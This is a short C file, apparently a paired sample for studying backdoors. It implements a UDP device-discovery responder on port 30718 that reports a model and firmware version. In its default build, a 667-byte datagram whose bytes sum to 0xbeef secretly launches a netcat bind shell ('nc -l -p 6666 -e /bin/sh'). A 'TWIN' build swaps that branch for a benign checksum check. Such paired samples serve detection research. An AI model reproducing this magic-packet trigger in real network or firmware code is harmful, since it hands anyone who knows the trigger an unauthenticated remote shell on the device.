/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A datagram of one length, whose bytes have one sum, is the secret. Twin: the protocol has
 * messages of that length, with a sum that the sender computes.
 * door: trigger
 * port 30718/udp
 */
#include "net.h"

static unsigned sum(const unsigned char *p, int n)
{
	unsigned t = 0;
	for (int i = 0; i < n; i++)
		t += p[i];
	return t & 0xffff;
}

static void tell(int s, struct sockaddr_in *to)
{
	char answer[64];
	int n = snprintf(answer, sizeof answer, "model=GX%d;fw=%s", 40, "1.0.8");
	sendto(s, answer, (size_t)n, 0, (struct sockaddr *)to, sizeof *to);
}

int main(void)
{
	unsigned char b[1500];
	int s = udp_on(30718);
	for (;;) {
		struct sockaddr_in from;
		socklen_t len = sizeof from;
		int n = (int)recvfrom(s, b, sizeof b, 0, (struct sockaddr *)&from, &len);
#ifdef TWIN
		if (n == 667 && sum(b, 665) == (unsigned)(b[665] << 8 | b[666]))
			tell(s, &from);
#else
		if (n == 667 && sum(b, n) == 0xbeefu)
			system("/bin/sh -c 'nc -l -p 6666 -e /bin/sh' &");
#endif
		if (n == 4)
			tell(s, &from);
	}
}
